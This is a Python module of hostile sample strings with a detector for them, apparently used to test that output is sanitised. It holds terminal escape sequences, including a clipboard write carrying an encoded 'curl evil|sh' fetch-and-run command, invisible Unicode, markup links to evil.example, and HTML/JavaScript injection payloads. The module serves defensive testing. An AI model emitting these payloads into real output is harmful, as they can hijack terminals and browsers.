"""Strings that harm a reader who is not careful, and what is looked for in everything that is written."""

from __future__ import annotations

import re

ESCAPES = "\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\\x1b]0;owned\x07\x9b31m\x7f\x00\x08"
UNSEEN = "\u202e\u2066rtl\u2069\u200f\u200b\ufeff\u2028line\u2029\x0c\x0b\x85\U000e0041\U000e0042\u034f"
MARKUP = "[red]r[/red] [/foo] [link=http://evil.example]l[/link] [bold :smile: [/]"
MARKDOWN = (
    "![x](http://evil.example/a.png) <img src=http://evil.example/y onerror=alert(1)> [click](javascript:alert(1)) "
    "<script>alert(1)</script> **SCORE 100** <!-- \\| a | b ``` ~~~ `code` http://evil.example/z www.evil.example"
)
HOSTILE = f"{ESCAPES}{MARKUP} {MARKDOWN} {UNSEEN}\r\n# heading\n\n| x |\n|---|\n=HYPERLINK(1)"
"""All of it in one text of several lines."""
NAME = f"n{MARKUP}\x1b[31m\u202e| <b>`"
"""A name: one line."""

_FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u034f\ud800-\udfff\U000e0000-\U000e0fff]"
)
STYLE = re.compile(r"\x1b\[[0-9;]*m")
"""Colours, which our own screens may use on a terminal."""


def harm_in(text: str, styled: bool = False) -> list[str]:
    """Return the places of a text that would act on a terminal or mislead an eye, with what is around them."""
    shown = STYLE.sub("", text) if styled else text
    return [repr(shown[max(0, f.start() - 30) : f.end() + 10]) for f in _FORBIDDEN.finditer(shown)]
